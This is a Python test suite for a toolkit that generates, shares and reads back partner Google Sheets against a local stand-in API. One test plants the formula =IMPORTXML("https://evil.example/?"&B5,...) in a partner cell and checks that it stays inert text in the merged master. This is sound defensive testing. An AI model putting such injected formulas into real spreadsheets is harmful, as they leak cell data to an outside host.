"""The Google backend against the local stand-in of Sheets v4 and Drive v3 (tests/google_standin).

Every request the toolkit sends is validated by the stand-in against Google's discovery documents
(unknown fields rejected), runs with per-user permissions, and is logged so budgets are counted.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import logging
import random
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
from gspread import Client
from gspread.exceptions import APIError

from tests.conftest import FIXED_NOW, fill
from tests.google_standin import FOLDER, FakeGoogle, Fault
from toolkit import api, sources
from toolkit.backends.gsheets.generate import GoogleCopy, generate_google
from toolkit.backends.gsheets.http import RateLimiter, RetryPolicy, make_client
from toolkit.backends.gsheets.manifest import read_manifest
from toolkit.backends.gsheets.master import write_master_google
from toolkit.backends.gsheets.reader import read_spreadsheet
from toolkit.errors import BackendError, SourceError
from toolkit.initiative import Initiative
from toolkit.read_copy import read_submission
from toolkit.submission import PullResult

COORDINATOR = "coordination@hochelaga-ensemble.example"


@pytest.fixture
def fake() -> FakeGoogle:
    return FakeGoogle(seed=42)


def client_for(fake: FakeGoogle, user: str, **retry: Any) -> Client:
    """The toolkit's client (rate limit, retry) acting as `user`, on the stand-in's fake clock."""
    return make_client(
        session=fake.session(user),
        clock=lambda: fake.clock.now().timestamp(),
        sleep=fake.clock.sleep,
        rng=random.Random(3),
        retry=RetryPolicy(**retry) if retry else None,
    )


@pytest.fixture
def coordinator(fake: FakeGoogle) -> Client:
    return client_for(fake, COORDINATOR)


@pytest.fixture
def google_initiative(initiative: Initiative, fake: FakeGoogle, tmp_path: Path) -> Initiative:
    folder = fake.drive.create({"name": "Hochelaga ensemble", "mimeType": FOLDER}, COORDINATOR)
    settings = dataclasses.replace(
        initiative.google, folder_id=folder.id, manifest=tmp_path / "google_manifest.json", notify=True
    )
    return dataclasses.replace(initiative, google=settings)


def generate(initiative: Initiative, client: Client, **kwargs: Any) -> list[GoogleCopy]:
    return generate_google(initiative, client, now=FIXED_NOW, progress=False, **kwargs)


def per_partner_budget(initiative: Initiative) -> Counter[str]:
    emails = sum(len(p.emails) for p in initiative.partners)
    n = len(initiative.partners)
    return Counter(
        {
            "drive.files.get": 1,  # the folder, checked once before anything is created
            "drive.files.list": n,
            "drive.files.create": n,
            "sheets.spreadsheets.batchUpdate": n,
            "drive.permissions.create": emails,
        }
    )


# --- generate --------------------------------------------------------------------------------------


def test_generate_creates_places_and_shares_within_budget(
    fake: FakeGoogle, coordinator: Client, google_initiative: Initiative
) -> None:
    copies = generate(google_initiative, coordinator)
    assert [c.partner_id for c in copies] == [p.id for p in google_initiative.partners]
    assert fake.log.by_method() == per_partner_budget(google_initiative)
    assert fake.log.count(status=200) == len(fake.log.records)  # nothing refused, nothing retried
    folder = google_initiative.google.folder_id
    for copy, partner in zip(copies, google_initiative.partners, strict=True):
        found = fake.file(copy.spreadsheet_id)
        assert found.parents == [folder] and found.owner == COORDINATOR
        assert found.properties == {
            "toolkit_initiative": google_initiative.id,
            "toolkit_partner": partner.id,
        }
        assert found.writers_can_share is False
        writers = sorted(p["emailAddress"] for p in found.permissions if p["role"] == "writer")
        assert writers == sorted(partner.emails)
        state = fake.sheets[copy.spreadsheet_id]
        assert state.properties["locale"] == "fr_CA" and state.properties["timeZone"] == "America/Toronto"
    manifest = read_manifest(google_initiative.google.manifest or Path())
    assert {e.partner: e.status for e in manifest.entries.values()} == {
        p.id: "shared" for p in google_initiative.partners
    }
    notes = [n for n in fake.drive.notifications if n.to == "mdiallo@cdc-hochelaga.example"]
    assert len(notes) == 1 and "Remplissez les cellules jaunes" in (notes[0].message or "")


def test_generate_again_creates_nothing(
    fake: FakeGoogle, coordinator: Client, google_initiative: Initiative
) -> None:
    first = generate(google_initiative, coordinator)
    fake.log.clear()
    again = generate(google_initiative, coordinator)
    assert [c.spreadsheet_id for c in again] == [c.spreadsheet_id for c in first]
    assert {c.status for c in again} == {"existing"}
    assert len(fake.log.records) == 0


def test_a_lost_manifest_adopts_the_tagged_copies(
    fake: FakeGoogle, coordinator: Client, google_initiative: Initiative
) -> None:
    first = generate(google_initiative, coordinator, partners=["cdc-hochelaga"])
    (google_initiative.google.manifest or Path()).unlink()
    fake.log.clear()
    again = generate(google_initiative, coordinator, partners=["cdc-hochelaga"])
    assert again[0].spreadsheet_id == first[0].spreadsheet_id and again[0].status == "adopted"
    assert fake.log.count(method_id="sheets.spreadsheets.create") == 0


# --- faults ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("method", "via_drive"), [("drive.files.create", True), ("sheets.spreadsheets.create", False)]
)
@pytest.mark.parametrize(
    "faults",
    [
        [Fault(429, retry_after=5)],
        [500],
        [503],
        ["reset"],
        [Fault(500, after=True)],
        [Fault("reset", after=True)],
        [Fault(503, after=True), 429, "reset"],
    ],
    ids=["429-retry-after", "500", "503", "reset", "500-after-apply", "reset-after-apply", "mixed"],
)
def test_create_faults_leave_exactly_one_spreadsheet_per_partner(
    fake: FakeGoogle,
    coordinator: Client,
    google_initiative: Initiative,
    faults: list[Any],
    method: str,
    via_drive: bool,
) -> None:
    fake.inject(method, faults)
    copies = generate(
        google_initiative, coordinator, partners=["cdc-hochelaga", "cpe-les-lucioles"], via_drive=via_drive
    )
    assert len(fake.sheets) == 2 == len({c.spreadsheet_id for c in copies})
    for copy in copies:
        assert fake.file(copy.spreadsheet_id).parents == [google_initiative.google.folder_id]
    assert fake.faults.pending() == 0


@pytest.mark.parametrize("method", ["drive.files.update", "drive.permissions.create", "drive.files.list"])
def test_drive_faults_are_retried(
    fake: FakeGoogle, coordinator: Client, google_initiative: Initiative, method: str
) -> None:
    fake.inject(method, [Fault(429, retry_after=2), 500, 503, "reset"])
    copies = generate(google_initiative, coordinator, partners=["cuisine-collective"])
    assert len(fake.sheets) == 1
    assert len(fake.file(copies[0].spreadsheet_id).permissions) == 3  # owner + two writers


def test_an_interrupted_generate_resumes_and_creates_each_copy_once(
    fake: FakeGoogle, google_initiative: Initiative
) -> None:
    client = client_for(fake, COORDINATOR, max_attempts=3)
    partners = google_initiative.partners
    generate(google_initiative, client, partners=[p.id for p in partners[:3]])
    fake.inject("drive.permissions.create", [503, 503, 503])
    with pytest.raises(BackendError, match="après 3 tentatives"):
        generate(google_initiative, client)
    manifest = read_manifest(google_initiative.google.manifest or Path())
    assert manifest.entries[partners[3].id].status == "placed"
    copies = generate(google_initiative, client)
    assert fake.log.count(method_id="drive.files.create", status=200) == len(partners) == len(fake.sheets)
    assert len({c.spreadsheet_id for c in copies}) == len(partners)
    assert {read_manifest(manifest.path).entries[p.id].status for p in partners} == {"shared"}


def test_service_account_path_creates_in_the_folder_then_fills_in_one_batch(
    fake: FakeGoogle, coordinator: Client, google_initiative: Initiative
) -> None:
    copies = generate(google_initiative, coordinator, partners=["cdc-hochelaga"], via_drive=True)
    assert fake.log.by_method() == Counter(
        {
            "drive.files.get": 1,
            "drive.files.list": 1,
            "drive.files.create": 1,
            "sheets.spreadsheets.batchUpdate": 1,
            "drive.permissions.create": 1,
        }
    )
    raw = read_spreadsheet(copies[0].url, coordinator)
    assert [s.name for s in raw.sheets] == [
        "Lisez-moi",
        "Canevas des progrès",
        "Infrastructure de soutien",
        "_toolkit",
    ]
    assert read_submission(raw, google_initiative).partner_id == "cdc-hochelaga"


def test_service_account_path_survives_a_lost_batch_answer(
    fake: FakeGoogle, coordinator: Client, google_initiative: Initiative
) -> None:
    fake.inject("drive.files.create", [Fault("reset", after=True)])
    fake.inject("sheets.spreadsheets.batchUpdate", [Fault(500, after=True)])
    copies = generate(google_initiative, coordinator, partners=["cdc-hochelaga"], via_drive=True)
    assert len(fake.sheets) == 1
    raw = read_spreadsheet(copies[0].url, coordinator)
    assert read_submission(raw, google_initiative).partner_id == "cdc-hochelaga"


# --- rate limit, tokens -------------------------------------------------------------------------------


def test_the_rate_limiter_keeps_sheets_under_quota(
    fake: FakeGoogle, coordinator: Client, google_initiative: Initiative
) -> None:
    fake.enable_quota(reads_per_minute=60, writes_per_minute=60)
    copies = generate(google_initiative, coordinator, partners=["cdc-hochelaga"])
    fake.log.clear()
    for _ in range(130):
        read_spreadsheet(copies[0].url, coordinator, modified=False)
    times = [r.time for r in fake.log.records]
    assert fake.log.count(status=429) == 0 and len(times) == 130
    worst = max(sum(1 for t in times if start <= t < start + dt.timedelta(seconds=60)) for start in times)
    assert worst <= 60


def test_tokens_never_reach_logs_or_reprs(
    fake: FakeGoogle, coordinator: Client, google_initiative: Initiative, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    copies = generate(google_initiative, coordinator, partners=["cdc-hochelaga"])
    fake.inject("sheets.spreadsheets.get", [503])
    read_spreadsheet(copies[0].url, coordinator)
    shown = caplog.text + repr(coordinator.http_client) + repr(copies) + str(copies)
    assert "standin-token" not in shown


# --- permissions ----------------------------------------------------------------------------------------


def test_partners_see_only_their_copy_and_cannot_edit_headers(
    fake: FakeGoogle, coordinator: Client, google_initiative: Initiative
) -> None:
    a, b = google_initiative.partners[0], google_initiative.partners[1]
    copies = {c.partner_id: c for c in generate(google_initiative, coordinator, partners=[a.id, b.id])}
    as_a = client_for(fake, a.emails[0])
    with pytest.raises(SourceError) as refused:
        read_spreadsheet(copies[b.id].url, as_a)
    assert refused.value.code == "not_found" and "not shared with the coordinator" in refused.value.detail
    sheet = fake.gspread_client(a.emails[0]).open_by_key(copies[a.id].spreadsheet_id)
    tab = sheet.worksheet("Canevas des progrès")
    tab.update(range_name="B5", values=[["Notre portrait"]])  # an input cell: allowed
    with pytest.raises(APIError) as protected:
        tab.update(range_name="A5", values=[["Autre libellé"]])  # a label: protected
    assert "protected" in str(protected.value)
    with pytest.raises(APIError):
        sheet.worksheet("_toolkit").update(range_name="A1", values=[["x"]])
    assert read_spreadsheet(copies[a.id].url, as_a).sheet("Canevas des progrès") is not None


# --- the whole cycle -----------------------------------------------------------------------------------


def test_whole_cycle_google_and_excel_copies_merge_and_gaps(
    fake: FakeGoogle, coordinator: Client, google_initiative: Initiative, tmp_path: Path
) -> None:
    initiative = google_initiative
    copies = {c.partner_id: c for c in generate(initiative, coordinator)}

    # three partners fill their spreadsheets through the API, as gspread does
    cdc = fake.gspread_client("mdiallo@cdc-hochelaga.example").open_by_key(
        copies["cdc-hochelaga"].spreadsheet_id
    )
    canvas = cdc.worksheet("Canevas des progrès")
    canvas.update(
        range_name="B5:C5", values=[["Portrait du quartier", "2026-11-02"]], value_input_option="USER_ENTERED"
    )
    canvas.update(range_name="B6", values=[['=IMPORTXML("https://evil.example/?"&B5,"//a")']])  # RAW: text
    backbone = cdc.worksheet("Infrastructure de soutien")
    backbone.update(range_name="B5:C5", values=[["Mamadou Diallo", "Une vision partagée"]])
    cpe = fake.gspread_client("direction@cpe-lucioles.example").open_by_key(
        copies["cpe-les-lucioles"].spreadsheet_id
    )
    cpe.worksheet("Canevas des progrès").update(
        range_name="B5:C5",
        values=[["Ateliers parents", "=DATE(2026;11;5)"]],
        value_input_option="USER_ENTERED",
    )  # a formula where a date belongs
    cpe.worksheet("Infrastructure de soutien").update(range_name="B9", values=[["Isabelle Côté"]])
    kitchen = fake.gspread_client("info@cuisinecollective.example").open_by_key(
        copies["cuisine-collective"].spreadsheet_id
    )
    kitchen.worksheet("Infrastructure de soutien").update(range_name="B6", values=[["Karim Benali"]])

    # pull them back: one Sheets read (and one Drive read for the modification time) each
    fake.log.clear()
    sources = [copies[p].url for p in ("cdc-hochelaga", "cpe-les-lucioles", "cuisine-collective")]
    google = [read_submission(read_spreadsheet(s, coordinator), initiative) for s in sources]
    assert fake.log.by_method() == Counter({"sheets.spreadsheets.get": 3, "drive.files.get": 3})

    cells = {s.partner_id: s.cells.set_index(["worksheet", "row", "column"]) for s in google}
    cdc_cells = cells["cdc-hochelaga"]
    assert cdc_cells.loc[("progress_canvas", "overview", "activities"), "value"] == "Portrait du quartier"
    assert cdc_cells.loc[("progress_canvas", "overview", "date"), "value"] == dt.date(2026, 11, 2)
    assert cdc_cells.loc[("progress_canvas", "research_data", "activities"), "value"].startswith("=IMPORTXML")
    assert cells["cpe-les-lucioles"].loc[("progress_canvas", "overview", "date"), "problem"] == "formula"
    assert all(s.modified is not None for s in google)

    # two partners send Excel copies
    local = {c.partner_id: c.path for c in api.generate(initiative, tmp_path / "xlsx", now=FIXED_NOW)}
    fill(local["ecole-baril"], {("Infrastructure de soutien", "B7"): "Sophie Tremblay"})
    fill(local["ciusss-est"], {("Canevas des progrès", "B5"): "Données de santé publique"})
    excel = api.pull([local["ecole-baril"], local["ciusss-est"]], initiative)
    assert not excel.errors

    pulled = PullResult(tuple(google) + excel.submissions, excel.errors, initiative.language)
    merged = api.merge(pulled, initiative)
    assert merged.partner_ids() == {
        "cdc-hochelaga",
        "cpe-les-lucioles",
        "cuisine-collective",
        "ecole-baril",
        "ciusss-est",
    }
    overview = merged.values[("progress_canvas", "overview", "activities")]
    assert "Portrait du quartier" in str(overview) and "Données de santé publique" in str(overview)

    report = api.find_gaps(pulled, initiative)
    kinds = Counter(g.kind for g in report.gaps)
    assert {g.partner for g in report.gaps if g.kind == "missing_submission"} == {
        "maison-des-jeunes",
        "bibliotheque",
        "caisse-populaire",
    }
    assert any(g.kind == "invalid_value" and g.partner == "cpe-les-lucioles" for g in report.gaps)
    assert kinds["ownerless_role"] >= 1

    # the master as a Google spreadsheet: folder check, Drive create, one write; partner text stays text
    fake.log.clear()
    master = write_master_google(merged, coordinator, now=FIXED_NOW)
    assert fake.log.by_method() == Counter(
        {"drive.files.get": 1, "drive.files.create": 1, "sheets.spreadsheets.batchUpdate": 1}
    )
    snapshot = fake.snapshot(master.spreadsheet_id)
    entered = [
        cell.get("userEnteredValue", {})
        for tab in snapshot["sheets"]
        for grid in tab.get("data", [])
        for row in grid.get("rowData", [])
        for cell in row.get("values", [])
    ]
    assert not [v for v in entered if "formulaValue" in v]
    assert any(str(v.get("stringValue", "")).startswith("=IMPORTXML") for v in entered)
    again = read_submission(read_spreadsheet(master.url, coordinator), initiative)
    assert again.role == "master"


def test_manifest_and_urls_expand_for_pull(coordinator: Client, google_initiative: Initiative) -> None:
    copies = generate(google_initiative, coordinator, partners=["cdc-hochelaga", "bibliotheque"])
    manifest = str(google_initiative.google.manifest)
    expanded = sources.expand([manifest, copies[0].url + "/edit#gid=0", "returns/"])
    assert [(s, kind.name) for s, kind in expanded] == [
        *((c.url, "google") for c in copies),
        ("returns/", "file"),
    ]


def test_pull_mixes_google_urls_manifest_and_local_files(
    fake: FakeGoogle, coordinator: Client, google_initiative: Initiative, tmp_path: Path
) -> None:
    """`toolkit pull` with a manifest, local copies and a broken file: each read by its own kind."""
    generate(google_initiative, coordinator, partners=["cdc-hochelaga", "bibliotheque"])
    local = api.generate(google_initiative, tmp_path / "xlsx", partners=["ecole-baril"], now=FIXED_NOW)
    broken = tmp_path / "notes.xlsx"
    broken.write_text("not a workbook")
    given = [str(google_initiative.google.manifest), str(local[0].path), str(broken)]
    google = [s for s, kind in sources.expand(given) if kind.name == "google"]
    pulled = api.pull(given, google_initiative, google_client=coordinator)
    assert sorted(s.partner_id or "" for s in pulled.submissions) == [
        "bibliotheque",
        "cdc-hochelaga",
        "ecole-baril",
    ]
    assert [e.code for e in pulled.errors] == ["not_spreadsheet"]
    assert set(pulled.cells()["source"]) >= set(google)


def test_unknown_spreadsheet_is_not_found(coordinator: Client) -> None:
    with pytest.raises(SourceError) as error:
        read_spreadsheet("1" + "x" * 40, coordinator)
    assert error.value.code == "not_found"


def test_rate_limiter_defaults_to_sixty_a_minute() -> None:
    limiter = RateLimiter()
    assert limiter.burst + 60 * limiter.rate == 60
